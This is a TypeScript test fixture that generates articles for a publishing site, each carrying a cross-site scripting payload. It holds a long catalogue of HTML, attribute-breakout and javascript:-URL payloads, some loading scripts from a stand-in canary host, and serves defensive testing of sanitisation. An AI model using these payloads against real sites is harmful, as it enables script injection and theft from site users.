/**
 * Articles that try to run a script: each of the ways below in each of the places where text can be. A script that
 * runs calls `ran(id)`, or loads something from the canary, which answers with a script that does.
 */
export const canary = 'https://canary.example'

/** Markup that runs `js` in some browser or other where it is taken for HTML. `js` has no quotes. */
export const markup = (js: string): string[] => [
  `<script>${js}</script>`,
  `<SCRIPT/x>${js}</ScRiPt >`,
  `<script src="${canary}/a.js"></script>`,
  `<script type="module">${js}</script>`,
  `<script src=//canary.example/b.js async>`,
  `<scr<script>ipt>${js}</scr</script>ipt>`,
  `<img src=x onerror="${js}">`,
  `<svg/onload=${js}>`,
  `<img src=x\tonerror\n=\n"${js}">`,
  `<image href=x onerror="${js}">`,
  `<picture><source srcset=x><img onerror="${js}" src=x></picture>`,
  `<audio src=x onerror="${js}">`,
  `<video><source onerror="${js}"></video>`,
  `<body onload="${js}">`,
  `<svg onload="${js}">`,
  `<svg><script>${js}</script></svg>`,
  `<svg><script href="${canary}/c.js"></script></svg>`,
  `<svg><animate onbegin="${js}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${js}"><text y=20>a</text></a></svg>`,
  `<svg><set attributeName=href to="javascript:${js}"></svg>`,
  `<svg><foreignObject><iframe srcdoc="&lt;script>${js}&lt;/script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror="${js}"></style></svg>`,
  `<svg></p><style><a id="</style><img src=x onerror='${js}'>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror='${js}'&gt;"></style></mglyph></table></mtext></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${js}"></annotation-xml></math>`,
  `<math href="javascript:${js}">a</math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${js}"></style></mglyph></form></mtext></math></form>`,
  `<noscript><p title="</noscript><img src=x onerror='${js}'>"></noscript>`,
  `<template><img src=x onerror="${js}"></template>`,
  `<div><template shadowrootmode=open><img src=x onerror="${js}"></template></div>`,
  `<xmp><p title="</xmp><img src=x onerror='${js}'>"></xmp>`,
  `<textarea><a title="</textarea><img src=x onerror='${js}'>"></textarea>`,
  `<title><a title="</title><img src=x onerror='${js}'>"></title>`,
  `<noembed><a title="</noembed><img src=x onerror='${js}'>"></noembed>`,
  `<plaintext><img src=x onerror="${js}">`,
  `<select><option><style></option></select><img src=x onerror="${js}"></style>`,
  `<table><td><script>${js}</script></td><img src=x onerror="${js}"></table>`,
  `<!--><img src=x onerror="${js}">-->`,
  `<!-- --!><img src=x onerror="${js}"> -->`,
  `<![CDATA[><img src=x onerror="${js}">]]>`,
  `<?xml ?><img src=x onerror="${js}">`,
  `<!x><img src=x onerror="${js}">`,
  `</p/><img src=x onerror="${js}">`,
  `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  `<iframe src="javascript:${js}"></iframe>`,
  `<iframe src="data:text/html,<script>${js}</script>"></iframe>`,
  `<object data="javascript:${js}"></object>`,
  `<object data="data:text/html,<script>${js}</script>"></object>`,
  `<embed src="data:text/html,<script>${js}</script>">`,
  `<frameset onload="${js}"><frame src="javascript:${js}"></frameset>`,
  `<meta http-equiv=refresh content="0;url=${canary}/page">`,
  `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${js}</script>">`,
  `<base href="${canary}/">`,
  `<link rel=stylesheet href="${canary}/a.css">`,
  `<link rel=modulepreload href="${canary}/d.js">`,
  `<style>@import "${canary}/b.css";</style>`,
  `<style>*{animation:x 1s}@keyframes x{}</style><p onanimationstart="${js}">a</p>`,
  `<p style="background:url(${canary}/e.css)">a</p>`,
  `<form action="javascript:${js}"><button>a</button></form>`,
  `<form id=f></form><button form=f formaction="javascript:${js}">a</button>`,
  `<input autofocus onfocus="${js}">`,
  `<details open ontoggle="${js}"><summary>a</summary>b</details>`,
  `<marquee onstart="${js}">a</marquee>`,
  `<a href="javascript:${js}">a</a>`,
  `<a href=" &#1;javascript:${js}">a</a>`,
  `<a href="java&Tab;scr&NewLine;ipt:${js}">a</a>`,
  `<a href="javascript&colon;${js}">a</a>`,
  `<a href="&#x6A;&#97vascript:${js}">a</a>`,
  `<a ping="${canary}/p" href="vbscript:${js}">a</a>`,
  `<area href="javascript:${js}">`,
  `<p onclick="${js}" onmouseover="${js}">a</p>`,
  `<p contenteditable onfocusin="${js}" tabindex=0 autofocus>a</p>`,
  `<p id=x popover onbeforetoggle="${js}">a</p><button popovertarget=x>b</button>`,
  `<a name="__proto__" id="constructor">a</a><img name=body id=head src=x onerror="${js}">`,
  `<amp-script script=x></amp-script><script id=x type="text/plain" target="amp-script">${js}</script>`,
  `<amp-iframe srcdoc="<script>${js}</script>"></amp-iframe>`,
  `<p on="tap:AMP.navigateTo(url='javascript:${js}')" role=button tabindex=0>a</p>`,
  `<p [text]="${js}" [href]="'javascript:${js}'">a</p>`,
]

/** What ends the text around a value, in JSON-LD, attributes, CDATA, comments, XML and scripts. */
const breakouts = (js: string): string[] => [
  `</script><script>${js}</script>`,
  `</SCRIPT\t><img src=x onerror="${js}">`,
  `<!--<script>${js}</script>`,
  `"><script>${js}</script>`,
  `'><img src=x onerror=${js}>`,
  `" onmouseover="${js}" x="`,
  `' autofocus onfocus='${js}' x='`,
  `"/><svg onload="${js}">`,
  `\`><img src=x onerror=${js}>`,
  `]]><script xmlns="http://www.w3.org/1999/xhtml">${js}</script><![CDATA[`,
  `]]&gt;<script>${js}</script>`,
  `--><script>${js}</script>`,
  `</title><script>${js}</script>`,
  `</head><script>${js}</script>`,
  `</body></html><script>${js}</script>`,
  `</textarea><img src=x onerror="${js}">`,
  `</style><script>${js}</script>`,
  `</noscript><img src=x onerror="${js}">`,
  `&lt;script&gt;${js}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${js}&amp;gt;`,
  `&#60;img src=x onerror=${js}&#62;`,
  `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
  `\u2028</script><script>${js}</script>`,
  `{{constructor.constructor('${js}')()}}`,
  `\${${js}}`,
  `＜script＞${js}＜/script＞`,
]

/** Addresses that would run `js` where they are followed or loaded. */
const addresses = (js: string): string[] => [
  `javascript:${js}`,
  `JaVaScRiPt:${js}`,
  `&#106;avascript:${js}`,
  `javascript&colon;${js}`,
  `java&Tab;script:${js}`,
  `java&#10;script:${js}`,
  `&#1;javascript:${js}`,
  `&nbsp;javascript:${js}`,
  `java%0ascript:${js}`,
  `javascript%3A${js}`,
  `\\javascript:${js}`,
  `javascript\\:${js}`,
  `./javascript:${js}`,
  `//canary.example/page`,
  `vbscript:${js}`,
  `data:text/html,%3Cscript%3E${js}%3C/script%3E`,
  `data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='${js}'/%3E`,
  `blob:https://paper.example/${js}`,
  `view-source:javascript:${js}`,
  `feed:javascript:${js}`,
  `https://a.example/"onmouseover="${js}`,
  `https://a.example/'onerror='${js}`,
  `https://a.example/"><script>${js}</script>`,
  `https://a.example/?x=</script><script>${js}</script>`,
  `#"><img src=x onerror=${js}>`,
  `mailto:a@a.example?body=</script><script>${js}</script>`,
]

interface Place {
  name: string
  ways: (js: string) => string[]
  /** Front matter lines (YAML) and Markdown of an article that has `text` in this place. */
  write(text: string): { matter?: string; body?: string; title?: string }
  /** It is in lists of stories, and in newsletters, too. */
  isListed?: true
}

const quoted = (text: string) => JSON.stringify(text)
const line = (text: string) => text.replace(/\s+/g, ' ')
const both = (js: string) => [...markup(js), ...breakouts(js)]

const places: Place[] = [
  { name: 'paragraph', ways: both, write: (text) => ({ body: `One ${text} two.` }) },
  { name: 'block', ways: both, write: (text) => ({ body: `${text}\n\nTwo.` }) },
  { name: 'heading', ways: breakouts, write: (text) => ({ body: `## One ${line(text)}` }) },
  { name: 'heading-id', ways: breakouts, write: (text) => ({ body: `## One {#${line(text)}}` }) },
  { name: 'cell', ways: breakouts, write: (text) => ({ body: `| a | b |\n|---|---|\n| ${line(text)} | c |` }) },
  {
    name: 'code',
    ways: breakouts,
    write: (text) => ({ body: `\`\`\`\`${line(text).replaceAll('`', '')}\n${text}\n\`\`\`\`\n\nOne \`\`${line(text)} \`\`.` }),
  },
  { name: 'note', ways: breakouts, write: (text) => ({ body: `One[^a].\n\n[^a]: ${line(text)}` }) },
  { name: 'note-label', ways: breakouts, write: (text) => ({ body: `One[^${line(text)}].\n\n[^${line(text)}]: Two.` }) },
  {
    name: 'figure',
    ways: breakouts,
    write: (text) => ({
      body: `![${line(text).replace(/[[\]]/g, '\\$&')}](https://a.example/a.png "${line(text).replaceAll('"', '\\"')}") :credit[${line(text).replace(/[[\]]/g, '\\$&')}]`,
    }),
  },
  {
    name: 'video',
    ways: breakouts,
    write: (text) => ({ body: `::video[${line(text).replace(/[[\]]/g, '\\$&')}]{youtube=aqz-KE-bpKQ title=${quoted(line(text))}}` }),
  },
  {
    name: 'language',
    ways: breakouts,
    write: (text) => ({ body: `One :zh[${line(text).replace(/[[\]]/g, '\\$&')}]{title=${quoted(line(text))} onclick=x}.` }),
  },
  {
    name: 'link',
    ways: addresses,
    write: (text) => ({
      body: `[a](<${text.replace(/[<>]/g, '\\$&')}>) [b](${text}) [c][d]\n\n[d]: <${text.replace(/[<>]/g, '\\$&')}> "t"`,
    }),
  },
  { name: 'autolink', ways: addresses, write: (text) => ({ body: `One <${text}> ${text} two.` }) },
  { name: 'picture', ways: addresses, write: (text) => ({ body: `![a](<${text.replace(/[<>]/g, '\\$&')}>)` }) },
  {
    name: 'raw-link',
    ways: addresses,
    write: (text) => ({ body: `<p><a href="${text}">a</a> <a href='${text}'>b</a> <img src="${text}" alt="c"></p>` }),
  },
  { name: 'title', isListed: true, ways: both, write: (text) => ({ title: text }) },
  { name: 'summary', isListed: true, ways: breakouts, write: (text) => ({ matter: `summary: ${quoted(text)}` }) },
  { name: 'author', isListed: true, ways: breakouts, write: (text) => ({ matter: `authors: [${quoted(text)}]` }) },
  { name: 'source', isListed: true, ways: breakouts, write: (text) => ({ matter: `source: ${quoted(text)}` }) },
  { name: 'tag', ways: breakouts, write: (text) => ({ matter: `tags: [${quoted(text)}]` }) },
  { name: 'slug', ways: breakouts, write: (text) => ({ matter: `slug: ${quoted(text)}` }) },
  { name: 'translator', ways: breakouts, write: (text) => ({ matter: `translation: { from: en, translator: ${quoted(text)} }` }) },
  {
    name: 'correction',
    isListed: true,
    ways: breakouts,
    write: (text) => ({ matter: `corrections: [{ date: 2026-03-03, text: ${quoted(text)} }]` }),
  },
  {
    name: 'caption',
    ways: breakouts,
    write: (text) => ({
      matter: `image: { src: "https://a.example/a.png", alt: ${quoted(text)}, caption: ${quoted(text)}, credit: ${quoted(text)} }`,
    }),
  },
  { name: 'image', ways: addresses, write: (text) => ({ matter: `image: { src: ${quoted(text)}, alt: a }` }) },
  { name: 'canonical', ways: addresses, write: (text) => ({ matter: `canonical: ${quoted(text)}` }) },
  { name: 'alias', ways: addresses, write: (text) => ({ matter: `aliases: [${quoted(text)}]` }) },
]

/** Name → text of each article. A script of it calls `ran` with its number, of which `first` is the first. `listed`: only those that differ in lists. */
export function hostileArticles(first: number, { listed = false } = {}): Map<string, string> {
  const found = new Map<string, string>()
  for (const { name, ways, write } of places.filter(({ isListed = false }) => isListed || !listed))
    for (const index of ways('').keys()) {
      const text = ways(`ran(${first + found.size})`)[index] ?? ''
      const id = `${name}-${index}`
      const { title = `A ${id}`, matter = '', body = 'One.' } = write(text)
      const slug = name === 'slug' ? '' : `slug: ${id}\n`
      found.set(id, `---\ntitle: ${quoted(title)}\n${slug}date: 2026-03-02\n${matter}\n---\n\n${body}\n`)
    }
  return found
}

/** Every way to break out of a value, for words that a site has once: titles, labels, words of the interface. */
export const breakout = (js: string): string => breakouts(js).join(' ')
